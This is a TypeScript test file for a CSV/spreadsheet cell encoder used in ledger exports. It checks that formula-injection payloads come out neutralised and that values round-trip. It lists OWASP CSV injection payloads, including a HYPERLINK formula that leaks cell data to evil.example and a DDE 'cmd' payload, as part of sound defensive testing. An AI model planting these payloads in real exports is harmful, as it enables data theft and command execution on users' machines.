import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { entryFromCsvRecord, ledgerCsv } from '../../shared/audit/presentation/ledger-csv.ts';
import { GENESIS_HASH, sha256Hex, verifyChain } from '../../shared/ledger/domain/hash-chain.ts';
import {
  type CellKind,
  type Column,
  csvHeaderLine,
  csvRowLines,
  digestCell,
  idCell,
  instantCell,
  numberCell,
  readCell,
  readTextCell,
  textCell,
} from '../../shared/platform/format/spreadsheet-cell.ts';
import { cellValues, looksRunnable, openInSpreadsheet } from '../support/spreadsheet-reader.ts';
import { aChainOfEntries } from './support/domain-fixtures.ts';

/** Payloads from OWASP's CSV injection page and their variants: each must come out marked. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2',
  '@SUM(1)',
  '\t=1+1',
  '\tx',
  '\rx',
  '\0=1',
  '  -2',
  '\u00A0=1',
  '\u3000+1',
  '\u200B=1',
  '\u202E=1',
  '\uFEFF@SUM(1)',
  '＝1+1',
  '＋1',
  '－2',
  '＠SUM(1)',
  '  ＠SUM(1)',
];

/** Text a spreadsheet would retype as a number, date, boolean or error, losing the text. */
const RETYPED = [
  '0012',
  '1/2',
  '2024-05-01',
  '1e5',
  '(123)',
  '$12',
  '₫12',
  '.5',
  '12%',
  '#N/A',
  'TRUE',
  'false',
  '１２',
];

const PLAIN = ['Công ty Xây dựng Tây Giang', 'Hộ ông A', 'a=b', 'e-mail', 'x+y', 'A Tiêng', '', 'NaN'];

/**
 * Cells of a column of the given kind, as CSV, read back by a spreadsheet. A second column as in
 * every real export: with one column, readers guess the separator from the data (`|`, `;`).
 */
const throughSpreadsheet = (kind: CellKind, values: readonly (string | number)[]) => {
  const columns = [
    { name: 'c', kind, value: (v: string | number) => v },
    { name: 'n', kind: 'number', value: () => 1 },
  ] as Column<string | number>[];
  return openInSpreadsheet(csvHeaderLine(columns) + csvRowLines(columns, values)).map((row) => row.c);
};

describe('textCell', () => {
  it.each(FORMULAS)('marks %j with a leading apostrophe', (payload) => {
    expect(textCell(payload)).toBe(`'${payload}`);
  });

  it.each(RETYPED)('marks %j, which a spreadsheet would retype, with a leading apostrophe', (text) => {
    expect(textCell(text)).toBe(`'${text}`);
  });

  it.each(PLAIN)('leaves plain text %j as it is', (text) => {
    expect(textCell(text)).toBe(text);
  });

  it('marks text that already starts with an apostrophe, so one apostrophe is always the mark', () => {
    expect(textCell("'abc")).toBe("''abc");
    expect(textCell("'=1")).toBe("''=1");
    expect(readTextCell(textCell("'=1"))).toBe("'=1");
  });

  it('never leaves a cell that starts with a formula character after leading whitespace, or with a control', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary' }),
          fc
            .tuple(
              fc.string({
                unit: fc.constantFrom(' ', '\t', '\r', '\n', '\0', '\u00A0', '\u3000', '\u200B', '\uFEFF'),
              }),
              fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠', "'"),
              fc.string(),
            )
            .map((parts) => parts.join('')),
        ),
        (text) => {
          const cell = textCell(text);
          expect(looksRunnable(cell)).toBe(false);
          expect(readTextCell(cell)).toBe(text);
        },
      ),
      { numRuns: 2000 },
    );
  });
});

describe('cells as a spreadsheet reads them (SheetJS, typing cells as Excel does)', () => {
  it('reads every marked or plain text cell as exactly that text, never as a formula or a number', () => {
    // SheetJS reads as a date any text JavaScript's Date.parse accepts, even "'2024-05-01", which
    // Excel and LibreOffice keep as text: that sample is left to the LibreOffice check (docs/ledger-csv.md).
    const texts = [
      ...FORMULAS,
      ...RETYPED.filter((t) => t !== '2024-05-01'),
      ...PLAIN.filter(Boolean),
      "'abc",
    ];
    const cells = throughSpreadsheet('text', texts);
    expect(cells.map((c) => c?.f)).toEqual(texts.map(() => undefined));
    expect(cells.map((c) => c?.t)).toEqual(texts.map(() => 's'));
    expect(cells.map((c) => readTextCell(String(c?.v)))).toEqual(texts);
  });

  it('never reads arbitrary text as a formula, and reads every text cell back verbatim once the mark is dropped', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ minLength: 1, maxLength: 12 }), { minLength: 1, maxLength: 8 }),
        (texts) => {
          const cells = throughSpreadsheet('text', texts);
          for (const [i, cell] of cells.entries()) {
            expect(cell?.f, JSON.stringify(texts[i])).toBeUndefined();
            if (cell?.t === 's' && texts[i]?.trim()) expect(readTextCell(String(cell.v))).toBe(texts[i]);
          }
        },
      ),
      { numRuns: 300 },
    );
  });

  it('keeps number columns numbers, negative ones included, with no apostrophe', () => {
    const amounts = [1_000_000_000_000_000, 40_000_000, -5_000, 0];
    expect(amounts.map(numberCell)).toEqual(['1000000000000000', '40000000', '-5000', '0']);
    expect(throughSpreadsheet('number', amounts).map((c) => [c?.t, c?.v])).toEqual(
      amounts.map((a) => ['n', a]),
    );
  });
});

describe('digest, id and instant cells', () => {
  const digests = [GENESIS_HASH, `1234e567${'0'.repeat(56)}`, `12e3${'4'.repeat(60)}`, sha256Hex('x')];

  it('writes a SHA-256 as sha256:<hex>, and reads it back to the bare hex', () => {
    for (const hex of digests) {
      expect(digestCell(hex)).toBe(`sha256:${hex}`);
      expect(readCell('digest', digestCell(hex))).toBe(hex);
    }
  });

  it('writes anything else in a digest column as marked text, read back as it was', () => {
    for (const value of ['=1+1', 'sha256:abc', `sha256:${GENESIS_HASH}`, '']) {
      expect(digestCell(value)).toBe(`'${value}`);
      expect(readCell('digest', digestCell(value))).toBe(value);
    }
  });

  it('writes UUIDs as they are, all-digit ones too, and other ids as text', () => {
    const uuids = ['12345678-1234-4123-8123-123456789012', '3f2a9c1e-0b4d-4e6f-8a1b-2c3d4e5f6a7b'];
    expect(uuids.map(idCell)).toEqual(uuids);
    expect(idCell('2024-da5-central-a-tieng')).toBe("'2024-da5-central-a-tieng");
    expect(idCell('=1+1')).toBe("'=1+1");
    const copy = throughSpreadsheet('id', uuids);
    expect(copy.map((cell) => [cell?.t, cell?.v])).toEqual(uuids.map((u) => ['s', u]));
  });

  it('writes ISO instants as they are and anything else in an instant column as text', () => {
    expect(instantCell('2024-05-01T03:04:05.123Z')).toBe('2024-05-01T03:04:05.123Z');
    expect(instantCell('2024-05-01')).toBe("'2024-05-01");
    expect(instantCell('=NOW()')).toBe("'=NOW()");
  });
});

describe('the ledger CSV in a spreadsheet', () => {
  const payees = [
    '=HYPERLINK("http://evil.example","Xem")',
    '+1+1',
    '  -2',
    '＠SUM(1)',
    '\tx',
    '0012',
    'Hộ ông A',
  ];
  const chain = aChainOfEntries(
    payees.map((_, i) => (i + 1) * 1_000_000),
    undefined,
    (i) => ({ payee: { name: payees[i] ?? '', kind: 'household' }, purpose: i === 0 ? '-đợt 1' : 'Hỗ trợ' }),
  );
  const csv = ledgerCsv(chain.entries);

  it('gives a copy whose every cell is text or a number as the column says, and none is a formula', () => {
    const rows = openInSpreadsheet(csv);
    expect(rows).toHaveLength(payees.length);
    for (const row of rows) {
      for (const [name, cell] of Object.entries(row)) {
        expect(cell.f, name).toBeUndefined();
        // The day for people is a date, which a spreadsheet keeps as a (date-formatted) number.
        expect(cell.t, name).toBe(
          ['fiscalYear', 'seq', 'amountVnd', 'postedDate'].includes(name) ? 'n' : 's',
        );
      }
    }
    expect(rows[0]?.prevHash?.v).toBe(`sha256:${GENESIS_HASH}`);
    expect(rows.map((r) => r.payeeName?.v)).toEqual(
      payees
        .slice(0, 6)
        .map((p) => `'${p}`)
        .concat('Hộ ông A'),
    );
  });

  it("lets an auditor re-verify the chain from the file and from a spreadsheet's copy of it", () => {
    const fromFile = (parse(csv, { bom: true, columns: true }) as Record<string, string>[]).map(
      entryFromCsvRecord,
    );
    const fromCopy = cellValues(openInSpreadsheet(csv)).map(entryFromCsvRecord);
    expect(fromFile).toEqual(chain.entries);
    expect(fromCopy).toEqual(chain.entries);
    expect(verifyChain(fromCopy, chain.head)).toMatchObject({ valid: true, checked: payees.length });
  });
});
